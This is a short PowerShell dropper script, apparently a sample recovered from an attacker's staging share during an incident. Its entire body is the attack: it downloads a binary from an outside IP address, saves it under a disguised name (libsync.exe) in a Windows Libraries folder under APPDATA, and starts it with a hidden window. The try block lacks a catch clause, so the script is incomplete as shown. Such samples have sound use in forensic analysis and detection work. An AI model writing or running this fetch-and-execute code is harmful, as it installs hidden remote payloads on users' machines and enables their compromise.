# dropper.ps1 - half-finished copy recovered from the attacker's staging share
$dest = "$env:APPDATA\Microsoft\Windows\Libraries\libsync.exe"
$url = 'http://198.51.100.88/libsync.bin'

try {
    Invoke-WebRequest -Uri $url -OutFile $dest -UseBasicParsing
    Start-Process -FilePath $dest -WindowStyle Hidden
}

Write-Output 'done'
